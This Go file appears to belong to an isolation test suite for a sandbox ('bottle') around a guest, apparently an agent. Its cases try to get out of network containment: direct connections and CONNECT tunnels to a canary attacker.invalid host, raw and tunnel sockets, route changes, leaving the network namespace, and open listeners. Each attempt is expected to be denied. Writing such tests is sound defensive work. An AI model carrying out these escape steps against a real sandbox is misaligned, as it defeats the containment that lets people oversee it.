package attack

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/bot-bottle/action/internal/doors/decision"
	"github.com/bot-bottle/action/internal/guest/probe"
)

const (
	byNoNetwork = "the guest has no network"
	byEgress    = "the egress door"
)

func addressCases() []Case {
	answers := func(p *prober) Try { return p.answers() }
	const door = "the egress door answers on the alias"
	path := func(id, title, seed string) Case {
		return Case{ID: id, Title: title, Class: Addresses, Seed: seed, Tier: Quick, Layer: byNoNetwork, Twin: door, paths: true, twin: answers}
	}
	return []Case{
		{ID: "N01", Title: "TLS to a name that isn't listed, without the proxy", Class: Addresses, Tier: Quick, Layer: byNoNetwork, Twin: door,
			run: func(p *prober) []Try { return direct(p.canary+".attacker.invalid", "443") }, twin: answers},
		{ID: "N02", Title: "TLS to a listed name without the proxy", Class: Addresses, Tier: Full, Layer: byNoNetwork,
			Twin: "the same through the door", run: func(p *prober) []Try { return direct(p.plan.Hosts.Listed, "443") },
			twin: func(p *prober) Try { return p.twinOf(p.plan.Hosts.Listed) }},
		path("N03", "TLS to a raw address, without a server name", "2a"),
		path("N04", "TCP to ports of the outside: 22, 25, 53, 5432, 6379, 8080", ""),
		{ID: "N05", Title: "SSH to a listed name", Class: Addresses, Tier: Full, Layer: byNoNetwork, Twin: "its HTTPS, through the door",
			run: func(p *prober) []Try { return direct(p.plan.Hosts.Listed, "22") }, twin: func(p *prober) Try { return p.twinOf(p.plan.Hosts.Listed) }},
		path("N07", "UDP by connect, sendto and sendmsg; QUIC's port", ""),
		path("N08", "ICMP echo with a payload, by ping and raw sockets", ""),
		path("N09", "IPv6: global, link-local, unique-local", ""),
		path("N12", "private and shared address space, a gateway's ports", ""),
		path("N13", "the host by the addresses that runtimes offer", ""),
		path("N14", "the host's loopback, its own addresses, another bottle's alias, a service on all addresses", ""),
		{ID: "N15", Title: "the doors' ports for something else", Class: Addresses, Tier: Quick, Layer: "the doors",
			Rules: []string{"not-a-proxy-request", "no-route", "malformed-request", "not-supported", "closed", "scheme-not-supported"}, Twin: door, run: misuseDoors, twin: answers},
		{ID: "N16", Title: "adding addresses and routes in the guest", Class: Addresses, Tier: Quick, Layer: byNoNetwork, Twin: door, run: changeNetwork, twin: answers},
		path("N17", "raw, packet and vsock sockets, and families that few know", ""),
		{ID: "N19", Title: "a listener of the guest's on all its addresses", Class: Addresses, Tier: Quick, Layer: byNoNetwork,
			Twin: "the guest itself reaches it", run: listen, twin: reachOwn},
	}
}

// direct leaves the proxy out, as a program does that unsets the variables: the
// name has to lead nowhere.
func direct(host, port string) []Try {
	return []Try{
		call("resolve "+host, WantDenied, func() error { return resolve(host) }),
		call("connect to it at "+port, WantDenied, func() error {
			c, err := net.DialTimeout("tcp", net.JoinHostPort(host, port), patience)
			if err == nil {
				c.Close()
			}
			return err
		}),
	}
}

// resolve asks by the system's own means; an answer is an error's absence.
func resolve(name string) error {
	_, err := net.LookupHost(name)
	return err
}

func misuseDoors(p *prober) []Try {
	var tries []Try
	add := func(name, address, raw string) {
		tries = append(tries, try(name, WantDenied, func() (answer, error) { return say(address, raw) }))
	}
	for _, door := range []struct {
		name string
		port uint16
	}{{"egress", decision.EgressPort}, {"git-gate", decision.GitGatePort}, {"supervise", decision.SupervisePort}} {
		at := p.door(door.port)
		add(door.name+" as a web server", at, get(p.plan.Alias, "/"+p.canary))
		add(door.name+" as something else", at, "SSH-2.0-"+p.canary+"\r\n\r\n")
		add(door.name+": its own paths", at, get(p.plan.Alias, "/admin?"+p.canary))
		if door.port != decision.EgressPort {
			add(door.name+" as a proxy", at, "GET http://"+p.canary+".attacker.invalid/ HTTP/1.1\r\nHost: "+p.canary+".attacker.invalid\r\n\r\n")
			add(door.name+" as a tunnel", at, "CONNECT "+p.canary+".attacker.invalid:443 HTTP/1.1\r\nHost: "+p.canary+".attacker.invalid:443\r\n\r\n")
		}
	}
	for i := range tries {
		if tries[i].Status == http.StatusOK {
			tries[i].Outcome = probe.Reached
		}
	}
	return tries
}

// changeNetwork tries what root would do to get a way out, and then whether there
// is one. That the calls fail is not asked; that nothing comes of them is.
func changeNetwork(p *prober) []Try {
	tries := []Try{
		call("open a routing socket and add a route", WantNothing, addRoute),
		call("make a tunnel device", WantNothing, makeTunnel),
		call("leave the network namespace", WantNothing, leaveNetwork),
	}
	for _, target := range []string{"192.0.2.1:443", "10.0.0.1:443"} {
		tries = append(tries, call("connect to "+target, WantDenied, func() error {
			c, err := net.DialTimeout("tcp", target, patience)
			if err == nil {
				c.Close()
			}
			return err
		}))
	}
	return tries
}

// listenTime is how long the guest's listener stays, while the host looks for it.
const listenTime = 300 * time.Millisecond

// listen opens listeners on every address, and tells whether somebody came.
func listen(p *prober) []Try {
	var tries []Try
	for _, address := range []string{"0.0.0.0", p.plan.Alias, "[::]"} {
		at := fmt.Sprintf("%s:%d", address, p.plan.Listen)
		tries = append(tries, call("somebody comes to "+address, WantDenied, func() error {
			l, err := net.Listen("tcp", at)
			if err != nil {
				return err
			}
			defer l.Close()
			l.(*net.TCPListener).SetDeadline(time.Now().Add(listenTime))
			c, err := l.Accept()
			if err != nil {
				return errNothing
			}
			fmt.Fprint(c, p.canary)
			c.Close()
			return nil
		}))
	}
	return tries
}

func reachOwn(p *prober) Try {
	return call("connect to an own listener", "", func() error {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		defer l.Close()
		c, err := net.DialTimeout("tcp", l.Addr().String(), patience)
		if err == nil {
			c.Close()
		}
		return err
	})
}

func makeTunnel() error {
	f, err := os.OpenFile("/dev/net/tun", os.O_RDWR, 0)
	if err == nil {
		f.Close()
	}
	return err
}
